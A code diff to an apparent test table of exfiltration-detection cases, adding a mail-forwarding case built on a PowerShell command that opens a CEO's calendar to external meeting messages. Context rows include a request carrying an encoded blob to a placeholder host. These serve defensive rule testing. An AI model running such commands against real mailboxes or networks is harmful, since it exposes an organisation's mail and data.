@@ -105,6 +105,11 @@ export const EXFILTRATION_CASES: RuleRow[] = [
     'pwsh -c "Get-Mailbox -Identity ceo | Format-List Forwarding*"',
   ],
   [
+    "exfiltration.mail_forwarding",
+    'pwsh -c "Set-CalendarProcessing ceo -ProcessExternalMeetingMessages $true"',
+    'pwsh -c "Set-CalendarProcessing room1 -AutomateProcessing AutoAccept"',
+  ],
+  [
     "exfiltration.encoded_query_blob",
     get(`https://x.example.com/c?d=${"QUJD".repeat(30)}`),
     get("https://x.example.com/search?q=deno+test"),
